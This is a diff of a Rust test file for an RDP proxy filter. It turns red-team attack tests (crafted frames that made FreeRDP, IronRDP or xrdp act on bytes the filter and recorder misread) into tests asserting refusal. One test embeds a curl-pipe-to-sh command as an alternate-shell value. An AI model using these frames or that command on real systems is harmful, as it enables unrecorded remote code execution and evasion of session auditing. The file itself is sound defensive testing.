@@ -1,6 +1,7 @@
-//! Red team `h-red17e`: attacks on the filter's rules that PASS while each hole is open (the
-//! filter forwards what a real peer acts on). Each test names the peer function that reads the
-//! bytes differently from the filter.
+//! Red team `h-red17e`'s attacks on the filter, closed: each was forwarded before (a real peer
+//! acted on what the filter let through), each now ends the session or is rewritten. Every test
+//! keeps the attack's bytes, shows with a model of the peer that reads them (FreeRDP, IronRDP,
+//! xrdp) what the attack would do, and asserts the filter's refusal, with a control that passes.
 
 use super::*;
 use ironrdp_pdu::rdp::capability_sets::{
@@ -77,7 +78,7 @@ fn fast_path(body: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// HOLE (rule 4, fast-path): compression bits 01 in an update header. The filter's
+/// Fast-path compression bits 01 in an update header end the session (was: forwarded). The filter's
 /// `fast_path_orders` skips a compressionFlags byte whenever the bits are not 0
 /// (`update >> 6 != 0`); FreeRDP reads one only when they are exactly 2 (FreeRDP 2.11 and 3,
 /// `fastpath_recv_update_data`: `if (compression == FASTPATH_OUTPUT_COMPRESSION_USED)`), and so
@@ -85,10 +86,10 @@ fn fast_path(body: &[u8]) -> Vec<u8> {
 /// decoder's parser. A Synchronize update (FreeRDP ignores its data:
 /// `fastpath_recv_update_synchronize` is a SafeSeek) with header 0x43 makes the filter read its
 /// size one byte late, as 0xFF00, and walk off the PDU; FreeRDP and IronRDP read the orders
-/// update behind it, and the client draws it. The target ends no session and the recording
-/// never shows the drawing.
+/// update behind it, and the client draws it; the recording would never show the drawing. The
+/// box never negotiates bulk compression: any compression bits end the session.
 #[test]
-fn red17e_fast_path_orders_behind_compression_bits_01_pass() {
+fn fast_path_compression_bits_01_end_the_session() {
     let orders = fast_path_orders_body();
     let mut body = vec![0x43, 0x02, 0x00, 0xFF, 0x00]; // Synchronize, compression 01, size 2
     body.push(0x00); // orders, single fragment, no compression
@@ -106,24 +107,26 @@ fn red17e_fast_path_orders_behind_compression_bits_01_pass() {
     assert_eq!(first.update_code, ironrdp_pdu::fast_path::UpdateCode::Synchronize);
     assert_eq!(second.update_code, ironrdp_pdu::fast_path::UpdateCode::Orders);
     assert_eq!(second.data, &orders[..]);
-    // The filter passes it.
-    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
-    // Control: the same orders update alone is refused.
+    // The filter ends the session.
+    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));
+    // Controls: the same orders update alone is refused for its orders; the Synchronize without
+    // compression bits passes.
+    assert_eq!(filter(true).from_target(&fast_path(&[0x03, 0x02, 0x00, 0xFF, 0x00])).unwrap(), Verdict::Forward);
     let mut alone = vec![0x00];
     alone.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
     alone.extend(&orders);
     assert_eq!(filter(true).from_target(&fast_path(&alone)).unwrap(), Verdict::Refuse(ORDERS));
 }
 
-/// HOLE (rule 4, fast-path): compression bits 11. The filter (and IronRDP, which tests the 0x2
+/// Fast-path compression bits 11 end the session (was: forwarded). The old filter (and IronRDP, which tests the 0x2
 /// bit) read a compressionFlags byte; FreeRDP does not (`fastpath_recv_update_data` compares the
 /// bits with 2 for equality). After a Synchronize header 0xC3 come [0x01, 0x00, 0x10]: FreeRDP
 /// reads size 1 (data 0x10, ignored by `fastpath_recv_update_synchronize`) and then the orders
 /// update; the filter reads compressionFlags 0x01 and size 0x1000, past the PDU's end, and stops
 /// walking without refusing. The client draws the DSTBLT; the recorder (IronRDP reads it as the
-/// filter does, a truncated Synchronize) never sees it.
+/// filter does, a truncated Synchronize) never sees it. The box never negotiates compression.
 #[test]
-fn red17e_fast_path_orders_behind_compression_bits_11_pass() {
+fn fast_path_compression_bits_11_end_the_session() {
     let orders = fast_path_orders_body();
     let mut body = vec![0xC3, 0x01, 0x00, 0x10];
     body.push(0x00); // orders, single fragment, no compression
@@ -132,10 +135,13 @@ fn red17e_fast_path_orders_behind_compression_bits_11_pass() {
     let frame = fast_path(&body);
     let read = freerdp_fast_path_updates(&frame);
     assert_eq!(read, vec![(0x03, vec![0x10]), (0x00, orders)]);
-    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
+    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));
+    // Bits 10 (FreeRDP's and IronRDP's "compression used") too, on any update.
+    assert_eq!(filter(true).from_target(&fast_path(&[0x83, 0x20, 0x00, 0x00])).unwrap(), Verdict::Refuse(COMPRESSED));
 }
 
-/// HOLE (rule 4, slow-path): drawing orders in a bulk-compressed Update PDU. `slow_path_orders`
+/// A bulk-compressed slow-path Share Data PDU from the target ends the session (was: drawing
+/// orders in one were forwarded). `slow_path_orders`
 /// looks only at uncompressed Share Data PDUs; the box asked the target for no compression (the
 /// Client Info it forwards), but the client still decompresses whatever arrives: FreeRDP 2.11
 /// and 3 `rdp_recv_data_pdu` run `bulk_decompress` on every Data PDU with PACKET_COMPRESSED in
@@ -144,7 +150,7 @@ fn red17e_fast_path_orders_behind_compression_bits_11_pass() {
 /// itself, so "compressing" the update is copying it. The recorder has no decompressor (the
 /// decoder took `compression: None` from the rewritten Client Info) and cannot see the orders.
 #[test]
-fn red17e_compressed_slow_path_orders_pass() {
+fn a_bulk_compressed_slow_path_pdu_from_the_target_ends_the_session() {
     const PACKET_COMPRESSED: u8 = 0x20;
     // updateType ORDERS, pad2OctetsA, numberOrders 1, pad2OctetsB, then the DSTBLT.
     let mut update = vec![0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00];
@@ -168,7 +174,11 @@ fn red17e_compressed_slow_path_orders_pass() {
     pdu.extend(u16::try_from(18 + compressed.len()).unwrap().to_le_bytes());
     pdu.extend(&compressed);
     let frame = send_indication(1003, pdu.clone());
-    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
+    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));
+    // Whatever it holds: a compressed Synchronize update ends it too.
+    let mut sync = pdu.clone();
+    sync[18] = 3;
+    assert_eq!(filter(true).from_target(&send_indication(1003, sync)).unwrap(), Verdict::Refuse(COMPRESSED));
     // Control: the same PDU uncompressed is refused.
     let mut plain = pdu;
     plain[15] = 0;
@@ -222,15 +232,17 @@ fn xrdp_share_pdu_after_security_header(data: &[u8]) -> Option<&[u8]> {
     (flags & ACTED_ON == 0).then(|| &data[4..])
 }
 
-/// HOLE (rule 2): the security header flags the rule lets through carry a Share Control PDU to
-/// xrdp. TRANSPORT_RSP (0x0004) and AUTODETECT_RSP (0x2000) are allowed alone before activation,
+/// Before activation a client message behind a multitransport or auto-detect response header
+/// is refused (was: forwarded, and xrdp read the Share Control PDU behind it). TRANSPORT_RSP (0x0004) and AUTODETECT_RSP (0x2000) are allowed alone before activation,
 /// but xrdp 0.9.21's `xrdp_sec_recv` has no branch for either: it returns 0 and
 /// `xrdp_rdp_recv` reads the Share Control PDU behind the header — here a Confirm Active with
 /// drawing orders, which reaches xrdp untrimmed (`trim_capabilities` never runs: the filter
 /// forwards the frame as it is). The client simply sends no Confirm Active of its own after the
-/// Demand Active (xrdp keeps the capabilities of the last one it processed).
+/// Demand Active (xrdp keeps the capabilities of the last one it processed). The box offers no
+/// multitransport and auto-detect travels on the message channel: before activation only a
+/// licence PDU (besides the Client Info) crosses the I/O channel.
 #[test]
-fn red17e_confirm_active_behind_a_response_header_reaches_xrdp_untrimmed() {
+fn a_confirm_active_behind_a_response_header_before_activation_is_refused() {
     for flags in [0x0004u16, 0x2000] {
         let mut data = flags.to_le_bytes().to_vec();
         data.extend([0, 0]);
@@ -238,7 +250,17 @@ fn red17e_confirm_active_behind_a_response_header_reaches_xrdp_untrimmed() {
         let share = xrdp_share_pdu_after_security_header(&data).expect("xrdp reads past the header");
         assert!(offers_orders(share), "xrdp processes a confirm active with orders");
         let frame = send_data(1003, data);
-        assert_eq!(filter(false).from_client(&frame).unwrap(), Verdict::Forward, "{flags:#x}");
+        assert_eq!(filter(false).from_client(&frame).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE), "{flags:#x}");
+    }
+    // Control: a licence PDU whose preamble states its size passes, encrypted or not; one whose
+    // size disagrees does not.
+    for flags in [0x0080u16, 0x0180] {
+        let mut licence = flags.to_le_bytes().to_vec();
+        licence.extend([0, 0, 0xFF, 0x03, 0x10, 0x00]);
+        licence.extend([0u8; 12]);
+        assert_eq!(filter(false).from_client(&send_data(1003, licence.clone())).unwrap(), Verdict::Forward);
+        licence.push(0);
+        assert_eq!(filter(false).from_client(&send_data(1003, licence)).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE));
     }
     // Control: the same Confirm Active bare is trimmed (after activation: before it, its
     // totalLength happens to hold the INFO_PKT bit and the filter takes it for a Client Info).
@@ -248,17 +270,25 @@ fn red17e_confirm_active_behind_a_response_header_reaches_xrdp_untrimmed() {
     assert!(!offers_orders(&req.user_data));
 }
 
-/// HOLE (rule 2): a security header with flagsHi set. `security_flags` reads a header only when
+/// Before activation a security header with flagsHi set is refused (was: forwarded). `security_flags` reads a header only when
 /// flagsHi is 0, so [00 00 00 01] is taken for a Share Control PDU of totalLength 0 and type 0;
 /// `share_pdus` stops at once and, before activation, an unreadable client message is forwarded.
 /// xrdp reads flags and flagsHi as one u32 (0x01000000: no bit it acts on) and reads the Confirm
-/// Active behind it, as above.
+/// Active behind it, as above. The filter reads flags and flagsHi as one u32, as xrdp does.
 #[test]
-fn red17e_confirm_active_behind_a_flags_hi_header_reaches_xrdp_untrimmed() {
+fn a_security_header_with_flags_hi_before_activation_is_refused() {
     let mut data = vec![0x00, 0x00, 0x00, 0x01];
     data.extend(confirm_active_with_orders());
     assert!(offers_orders(xrdp_share_pdu_after_security_header(&data).unwrap()));
-    assert_eq!(filter(false).from_client(&send_data(1003, data)).unwrap(), Verdict::Forward);
+    assert_eq!(filter(false).from_client(&send_data(1003, data)).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE));
+    // A licence header with flagsHi set: xrdp reads 0x00010080, the filter refuses it.
+    let mut licence = vec![0x80, 0x00, 0x01, 0x00, 0xFF, 0x03, 0x04, 0x00];
+    assert_eq!(
+        filter(false).from_client(&send_data(1003, licence.clone())).unwrap(),
+        Verdict::Refuse(CLIENT_UNREADABLE)
+    );
+    licence[2] = 0;
+    assert_eq!(filter(false).from_client(&send_data(1003, licence)).unwrap(), Verdict::Forward, "control");
 }
 
 /// A fast-path Bitmap update body (updateType BITMAP, one rectangle) of an uncompressed 8x8
@@ -275,12 +305,13 @@ fn bitmap_update(x: u16, y: u16, bgrx: [u8; 4]) -> Vec<u8> {
     data
 }
 
-/// HOLE (recorder, fast-path): with compression bits 11 the recorder's parser (IronRDP's
+/// Compression bits 11 can no longer show the client one bitmap and the recording another
+/// (was: forwarded). With compression bits 11 the recorder's parser (IronRDP's
 /// `FastPathUpdatePdu::decode`, which tests the 0x2 bit) and the filter read a compressionFlags
 /// byte that FreeRDP's `fastpath_recv_update_data` (bits == 2 only) does not, so from the first
 /// update on they walk different updates of the same PDU. A target shows the client one bitmap
 /// (red) while the recording draws another (green) in the same place; nothing is counted as a
-/// gap, the filter forwards the PDU.
+/// gap. The filter now ends the session on the first compression bits.
 ///
 /// Layout after the fast-path header: a Synchronize header 0xC3, then [0x01, 0x00, 0x02].
 ///   FreeRDP: size 1 (data 0x02), then the red bitmap update, then a Synchronize update whose
@@ -288,7 +319,7 @@ fn bitmap_update(x: u16, y: u16, bgrx: [u8; 4]) -> Vec<u8> {
 ///   IronRDP: compressionFlags 0x01 (empty flags, type 64K: no decompression), size 0x0200: it
 ///   skips 512 bytes holding the red update, then reads the green bitmap update.
 #[test]
-fn red17e_the_client_sees_one_bitmap_and_the_recording_another() {
+fn compression_bits_cannot_show_the_client_one_bitmap_and_the_recording_another() {
     const RED: [u8; 4] = [0, 0, 255, 0];
     const GREEN: [u8; 4] = [0, 255, 0, 0];
     let red = bitmap_update(0, 0, RED);
@@ -315,11 +346,11 @@ fn red17e_the_client_sees_one_bitmap_and_the_recording_another() {
     assert_eq!(codes, vec![0x03, 0x01, 0x03]);
     assert_eq!(updates[1].1, red);
 
-    // The filter forwards it.
-    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
+    // The filter ends the session.
+    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(COMPRESSED));
 
-    // The recorder, past a real session's activation (freerdp-shadow's planar capture), draws
-    // the green square and never the red one.
+    // What it prevents: the recorder, past a real session's activation (freerdp-shadow's
+    // planar capture), would draw the green square and never the red one.
     let mut decoder = crate::decode::PassiveDecoder::new();
     for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
         match tag {
@@ -339,21 +370,22 @@ fn red17e_the_client_sees_one_bitmap_and_the_recording_another() {
     assert_eq!(pixel(&decoder), [0, 255, 0], "the recording shows green");
 }
 
-/// HOLE (Client Info rewrite): the client's alternate shell and working directory survive the
-/// rewrite (`Filter::inject` replaces only the credential, the cookie and two flags). xfreerdp
+/// A Client Info asking for a program of its own (alternate shell or working directory) ends
+/// the connection (was: they survived the rewrite (`Filter::inject` replaces only the credential, the cookie and two flags). xfreerdp
 /// sets them with `/shell:` and `/shell-dir:`; xrdp 0.9.21 reads them
 /// (`xrdp_sec_process_logon_info`: cbAlternateShell) and sesman starts a new session with the
 /// program instead of the desktop, through `sh -c` when it holds a space (sesman/session.c,
 /// "Starting user requested window manager ... using a shell"). With the injected credential,
 /// the box user runs any command line as the target account and nothing of it is on the screen
 /// the box records (the session shows only what the command draws, here nothing), in the keys
-/// log, or in an audit event.
+/// log, or in an audit event). The box decides what runs on the target: the session ends with
+/// the reason (the proxy's `rdp_policy_refused` audit event), the target never sees the PDU.
 #[test]
-fn red17e_the_client_info_alternate_shell_runs_on_the_target() {
+fn a_client_info_asking_for_a_program_of_its_own_ends_the_connection() {
     use ironrdp_pdu::rdp::client_info::{AddressFamily, ClientInfo, ExtendedClientInfo, ExtendedClientOptionalInfo};
     use ironrdp_pdu::rdp::headers::BasicSecurityHeader;
     let command = "sh -c 'curl -s http://10.0.0.9/x | sh; sleep 3600'";
-    let pdu = ClientInfoPdu {
+    let mut pdu = ClientInfoPdu {
         security_header: BasicSecurityHeader { flags: BasicSecurityHeaderFlags::INFO_PKT },
         client_info: ClientInfo {
             credentials: Credentials { username: "alice".into(), password: "box-password".into(), domain: None },
@@ -371,21 +403,104 @@ fn red17e_the_client_info_alternate_shell_runs_on_the_target() {
             },
         },
     };
-    let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
-    (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
-    let Verdict::Replace(out) = f.from_client(&send_data(1003, encode_vec(&pdu).unwrap())).unwrap() else {
-        panic!("client info not rewritten")
+    let judge = |pdu: &ClientInfoPdu| {
+        let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
+        (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
+        f.from_client(&send_data(1003, encode_vec(pdu).unwrap())).unwrap()
     };
+    // The shell with its directory, the shell alone, the directory alone: refused.
+    assert_eq!(judge(&pdu), Verdict::Refuse(PROGRAM_REQUESTED));
+    pdu.client_info.work_dir.clear();
+    assert_eq!(judge(&pdu), Verdict::Refuse(PROGRAM_REQUESTED));
+    (pdu.client_info.alternate_shell, pdu.client_info.work_dir) = (String::new(), "/tmp".into());
+    assert_eq!(judge(&pdu), Verdict::Refuse(PROGRAM_REQUESTED));
+    // Control: without them the Client Info is rewritten with the target's credential.
+    pdu.client_info.work_dir.clear();
+    let Verdict::Replace(out) = judge(&pdu) else { panic!("client info not rewritten") };
     let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
     let info = decode::<ClientInfoPdu>(&req.user_data).unwrap().client_info;
-    // The target gets its own credential with auto-logon, and the user's command line.
     assert_eq!(info.credentials.username, "root");
     assert!(info.flags.contains(ClientInfoFlags::AUTOLOGON));
-    assert_eq!(info.alternate_shell, command);
-    assert_eq!(info.work_dir, "/tmp");
 }
 
-/// HOLE (channels): the microphone over `rdpsnd` on xrdp. `rdpsnd` is open on every grant (it
+/// The rest of the Client Info the box does not grant is rewritten: RemoteApp, a smart card PIN
+/// in place of the password, the microphone without audio input, an auto-reconnect cookie
+/// (whose verifier would log on instead of the box's credential). Timezone, session id and
+/// performance flags stay.
+#[test]
+fn the_client_info_asks_the_target_for_nothing_the_grant_does_not_open() {
+    use ironrdp_pdu::rdp::client_info::{
+        AddressFamily, ClientInfo, ExtendedClientInfo, ExtendedClientOptionalInfo, OptionalSystemTime,
+        PerformanceFlags, TimezoneInfo,
+    };
+    use ironrdp_pdu::rdp::headers::BasicSecurityHeader;
+    let timezone = TimezoneInfo {
+        bias: -60,
+        standard_name: "CET".into(),
+        standard_date: OptionalSystemTime(None),
+        standard_bias: 0,
+        daylight_name: "CEST".into(),
+        daylight_date: OptionalSystemTime(None),
+        daylight_bias: -60,
+    };
+    let mut cookie = [0u8; 28];
+    cookie[..4].copy_from_slice(&28u32.to_le_bytes()); // cbLen
+    cookie[4..8].copy_from_slice(&1u32.to_le_bytes()); // AUTO_RECONNECT_VERSION_1
+    cookie[8..12].copy_from_slice(&7u32.to_le_bytes()); // LogonId
+    cookie[12..].fill(0xA5); // SecurityVerifier
+    let optional = ExtendedClientOptionalInfo::builder()
+        .timezone(timezone.clone())
+        .session_id(0)
+        .performance_flags(PerformanceFlags::DISABLE_WALLPAPER)
+        .reconnect_cookie(cookie)
+        .build();
+    let asked = ClientInfoFlags::RAIL
+        | ClientInfoFlags::HIDEF_RAIL_SUPPORTED
+        | ClientInfoFlags::PASSWORD_IS_SC_PIN
+        | ClientInfoFlags::AUDIO_CAPTURE;
+    let pdu = ClientInfoPdu {
+        security_header: BasicSecurityHeader { flags: BasicSecurityHeaderFlags::INFO_PKT },
+        client_info: ClientInfo {
+            credentials: Credentials { username: "alice".into(), password: "box-password".into(), domain: None },
+            password_cookie: None,
+            code_page: 0,
+            flags: ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE | asked,
+            compression_type: CompressionType::K8,
+            alternate_shell: String::new(),
+            work_dir: String::new(),
+            extra_info: ExtendedClientInfo {
+                address_family: AddressFamily::INET,
+                address: "127.0.0.1".into(),
+                dir: "C:\\".into(),
+                optional_data: optional,
+            },
+        },
+    };
+    let sent = encode_vec(&pdu).unwrap();
+    assert!(sent.windows(16).any(|w| w == [0xA5; 16]), "the client's cookie is in what it sent");
+    let rewritten = |redirection: Redirection| {
+        let mut f = Filter::new(SecurityProtocol::SSL, redirection, injection());
+        (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
+        let Verdict::Replace(out) = f.from_client(&send_data(1003, sent.clone())).unwrap() else {
+            panic!("not rewritten")
+        };
+        let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
+        assert!(!req.user_data.windows(16).any(|w| w == [0xA5; 16]), "the cookie reached the target");
+        decode::<ClientInfoPdu>(&req.user_data).unwrap().client_info
+    };
+    let info = rewritten(Redirection::default());
+    assert!(!info.flags.intersects(asked), "{:?}", info.flags);
+    assert!(info.flags.contains(ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE | ClientInfoFlags::AUTOLOGON));
+    let optional = &info.extra_info.optional_data;
+    assert!(optional.reconnect_cookie().is_none() && optional.auto_reconnect().is_none());
+    assert_eq!(optional.timezone(), Some(&timezone));
+    assert_eq!(optional.performance_flags(), Some(PerformanceFlags::DISABLE_WALLPAPER));
+    // With audio input granted, the microphone flag stays.
+    let info = rewritten(Redirection::default().with(Class::AudioInput));
+    assert!(info.flags.contains(ClientInfoFlags::AUDIO_CAPTURE));
+}
+
+/// Microphone audio on `rdpsnd` needs the grant's audio input (was: forwarded on every grant). `rdpsnd` is open on every grant (it
 /// "carries no redirection": sound out), but xrdp's chansrv also takes audio input on it, with
 /// its own message types (sesman/chansrv/sound.h: SNDC_REC_NEGOTIATE 39 ... SNDC_REC_DATA 42):
 /// `sound_process_input_formats` sets `g_rdpsnd_can_rec` when a client sends
@@ -393,9 +508,10 @@ fn red17e_the_client_info_alternate_shell_runs_on_the_target() {
 /// `sound_input_start_recording` (SNDC_REC_START to the client) instead of the AUDIO_INPUT
 /// dynamic channel (`audin_start`), and `sound_process_input_data` feeds every SNDC_REC_DATA into
 /// the session's audio source. On a grant without `--audio-input` (AUDIO_INPUT refused) the
-/// client's audio still reaches the target.
+/// client's audio reached the target. The client's `rdpsnd` messages are now read by type:
+/// playback's pass, anything else ends the session.
 #[test]
-fn red17e_microphone_audio_crosses_on_rdpsnd_without_the_audio_input_switch() {
+fn sound_input_on_rdpsnd_needs_the_audio_input_switch() {
     let grant = Redirection::default();
     assert!(!channels::dynamic_allowed(grant, b"AUDIO_INPUT\0"), "control: the dynamic channel is refused");
     let mut f = filter(true);
@@ -427,10 +543,44 @@ fn red17e_microphone_audio_crosses_on_rdpsnd_without_the_audio_input_switch() {
         negotiate.extend(v.to_le_bytes());
     }
     let samples = [0x11u8; 64]; // SNDC_REC_DATA: PCM from the client's microphone
+    let fresh = || {
+        let mut g = filter(true);
+        (g.redirection, g.decisions) = (f.redirection, f.decisions.clone());
+        g
+    };
     for pdu in [rdpsnd(39, &negotiate), rdpsnd(42, &samples)] {
-        assert_eq!(f.from_client(&send_data(1005, pdu)).unwrap(), Verdict::Forward);
+        assert_eq!(fresh().from_client(&send_data(1005, pdu)).unwrap(), Verdict::Refuse(SOUND_INPUT));
     }
-    // And the target's SNDC_REC_START reaches the client.
+    // The same data as the continuation of a playback message that claims to be longer, or as
+    // a chunk with no message in progress: refused too (every message's type is read).
+    let mut formats = rdpsnd(7, &negotiate);
+    let stated = u32::try_from(formats.len() - 8 + samples.len() + 4).unwrap();
+    formats[..4].copy_from_slice(&stated.to_le_bytes());
+    formats[4] = 1; // CHANNEL_FLAG_FIRST only
+    let mut g = fresh();
+    assert_eq!(g.from_client(&send_data(1005, formats)).unwrap(), Verdict::Forward);
+    let mut rest = stated.to_le_bytes().to_vec();
+    rest.extend(2u32.to_le_bytes()); // CHANNEL_FLAG_LAST
+    rest.extend([42, 0, 64, 0]);
+    rest.extend(samples);
+    assert_eq!(
+        g.from_client(&send_data(1005, rest.clone())).unwrap(),
+        Verdict::Forward,
+        "the rest of a playback message"
+    );
+    assert_eq!(g.from_client(&send_data(1005, rest)).unwrap(), Verdict::Refuse(SOUND_INPUT), "no message in progress");
+    // Controls: playback's messages pass (Client Audio Formats, Quality Mode, Training and Wave
+    // Confirm), and with audio input granted the microphone's do.
+    for t in [7u8, 12, 6, 5] {
+        assert_eq!(fresh().from_client(&send_data(1005, rdpsnd(t, &[0; 4]))).unwrap(), Verdict::Forward, "{t}");
+    }
+    let mut granted = fresh();
+    granted.redirection = grant.with(Class::AudioInput);
+    for pdu in [rdpsnd(39, &negotiate), rdpsnd(42, &samples)] {
+        assert_eq!(granted.from_client(&send_data(1005, pdu)).unwrap(), Verdict::Forward);
+    }
+    // The target's SNDC_REC_START still reaches the client: stock clients ignore the type, and
+    // whatever a client sends back is judged above.
     assert_eq!(f.from_target(&send_indication(1005, rdpsnd(40, &[0; 4]))).unwrap(), Verdict::Forward);
 }
 
@@ -458,15 +608,16 @@ fn freerdp_bitmap_rectangles(update: &[u8]) -> Vec<(u16, u16, u16, Vec<u8>)> {
     rects
 }
 
-/// HOLE (recorder): a compressed bitmap rectangle's length. FreeRDP reads `cbCompMainBodySize`
+/// A compressed rectangle whose bitmapLength and cbCompMainBodySize disagree ends the session
+/// (was: forwarded). FreeRDP reads `cbCompMainBodySize`
 /// bytes of a rectangle with a compression header; IronRDP (`BitmapData::decode`, the recorder's
 /// parser) reads `bitmapLength` - 8. A target states a bitmapLength that also covers the next
 /// rectangle FreeRDP reads: FreeRDP draws two red squares (an RDP6 planar one, then a raw one);
 /// the recorder takes both as the first rectangle's data and draws the second rectangle it
-/// reads, a green square the client never sees. An ordinary Bitmap update, nothing for the
-/// filter to judge; nothing counted as a gap.
+/// reads, a green square the client never sees; nothing counted as a gap. The filter reads every
+/// rectangle header and refuses one the two read differently.
 #[test]
-fn red17e_a_compressed_rectangle_length_shows_the_recording_another_bitmap() {
+fn a_compressed_rectangle_whose_lengths_disagree_ends_the_session() {
     const RED: [u8; 4] = [0, 0, 255, 0];
     const GREEN: [u8; 4] = [0, 255, 0, 0];
     // An 8x8 RDP6 planar stream (FreeRDP `planar_decompress`): FormatHeader NA (no alpha, raw,
@@ -513,9 +664,34 @@ fn red17e_a_compressed_rectangle_length_shows_the_recording_another_bitmap() {
     body.extend(u16::try_from(update.len()).unwrap().to_le_bytes());
     body.extend(&update);
     let frame = fast_path(&body);
-    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
+    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(BITMAP_AMBIGUOUS));
+    // The same rectangles in a slow-path Update PDU: refused too.
+    let mut slow = 0u16.to_le_bytes().to_vec();
+    slow.extend(0x0017u16.to_le_bytes());
+    slow.extend(1002u16.to_le_bytes());
+    slow.extend(0x0001_03EAu32.to_le_bytes());
+    slow.extend([0x00, 0x01]);
+    slow.extend(u16::try_from(4 + update.len()).unwrap().to_le_bytes());
+    slow.extend([0x02, 0x00, 0x00, 0x00]);
+    slow.extend(&update);
+    let total = u16::try_from(slow.len()).unwrap().to_le_bytes();
+    slow[..2].copy_from_slice(&total);
+    assert_eq!(
+        filter(true).from_target(&send_indication(1003, slow.clone())).unwrap(),
+        Verdict::Refuse(BITMAP_AMBIGUOUS)
+    );
+    // Control: with bitmapLength = 8 + cbCompMainBodySize (the green bytes dropped, so the
+    // rectangles fill the update) both read the same two rectangles, and it passes both ways.
+    let consistent = u16::try_from(8 + planar.len()).unwrap().to_le_bytes();
+    let mut good = update.clone();
+    good[20..22].copy_from_slice(&consistent);
+    good.truncate(good.len() - green_raw.len());
+    let mut body = vec![0x01];
+    body.extend(u16::try_from(good.len()).unwrap().to_le_bytes());
+    body.extend(&good);
+    assert_eq!(filter(true).from_target(&fast_path(&body)).unwrap(), Verdict::Forward);
 
-    // The recorder draws green where the client shows red.
+    // What it prevents: the recorder draws green where the client shows red.
     let mut decoder = crate::decode::PassiveDecoder::new();
     for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
         match tag {
@@ -531,16 +707,18 @@ fn red17e_a_compressed_rectangle_length_shows_the_recording_another_bitmap() {
     assert_eq!([s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]], [0, 255, 0], "the recording shows green");
 }
 
-/// HOLE (recorder, next to the known reactivation hole but a different window): slow-path
-/// bitmaps after a Deactivate All, before any Demand Active. FreeRDP 2.11's
-/// `rdp_recv_deactivate_all` moves the client to CONNECTION_STATE_CAPABILITIES_EXCHANGE and
-/// keeps reading; there `rdp_client_connect_demand_active` hands every PDU that is not a Demand
-/// Active to `rdp_recv_out_of_sequence_pdu`, which gives a Data PDU to `rdp_recv_data_pdu` →
+/// Drawing between a Deactivate All and the next Demand Active ends the session (was: slow-path
+/// bitmaps there were forwarded). FreeRDP 2.11's `rdp_recv_deactivate_all` moves the client to
+/// CONNECTION_STATE_CAPABILITIES_EXCHANGE and keeps reading; there
+/// `rdp_client_connect_demand_active` hands every PDU that is not a Demand Active to
+/// `rdp_recv_out_of_sequence_pdu`, which gives a Data PDU to `rdp_recv_data_pdu` →
 /// `update_recv` → the bitmap is drawn (FreeRDP 3 the same way). The decoder's `Deactivated`
-/// phase passes such a PDU over without a word: no frame, no error, no gap. A target can
-/// deactivate once and draw for the rest of the session unrecorded.
+/// phase passed such a PDU over without a word: a target could deactivate once and draw for the
+/// rest of the session unrecorded. No server draws in that window (xrdp and Windows send the
+/// Demand Active right behind the Deactivate All), so the filter refuses slow-path Update and
+/// Pointer PDUs and every fast-path PDU there.
 #[test]
-fn red17e_slow_path_bitmaps_after_deactivate_all_are_not_recorded() {
+fn drawing_between_deactivate_all_and_demand_active_ends_the_session() {
     let mut decoder = crate::decode::PassiveDecoder::new();
     for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
         match tag {
@@ -570,34 +748,45 @@ fn red17e_slow_path_bitmaps_after_deactivate_all_are_not_recorded() {
     data.extend(0u16.to_le_bytes());
     data.extend(&update);
     let bitmap = share(&data, 0x0017);
+    // The same square fast-path, and a Pointer PDU (pduType2 POINTER, system pointer hidden).
+    let mut body = vec![0x01];
+    body.extend(u16::try_from(update.len()).unwrap().to_le_bytes());
+    body.extend(&update);
+    let fast = fast_path(&body);
+    let mut pointer = data.clone();
+    pointer.truncate(12);
+    pointer[8] = 0x1B;
+    pointer.extend([1, 0, 0, 0, 0, 0, 0, 0]);
+    let pointer = share(&pointer, 0x0017);
+    // A minimal Demand Active (the filter reads its type).
+    let mut demand = ids.share_id.to_le_bytes().to_vec();
+    demand.extend([1, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
+    let demand = share(&demand, 0x0011);
 
-    let mut f = filter(true);
-    f.io_channel = Some(ids.io_channel_id);
-    assert_eq!(f.from_target(&deactivate).unwrap(), Verdict::Forward);
-    assert_eq!(f.from_target(&bitmap).unwrap(), Verdict::Forward);
-
+    let deactivated = || {
+        let mut f = filter(true);
+        f.io_channel = Some(ids.io_channel_id);
+        assert_eq!(f.from_target(&deactivate).unwrap(), Verdict::Forward);
+        f
+    };
+    for (what, frame) in [("slow-path bitmap", &bitmap), ("fast-path bitmap", &fast), ("pointer", &pointer)] {
+        assert_eq!(deactivated().from_target(frame).unwrap(), Verdict::Refuse(DRAWN_WHILE_DEACTIVATED), "{what}");
+    }
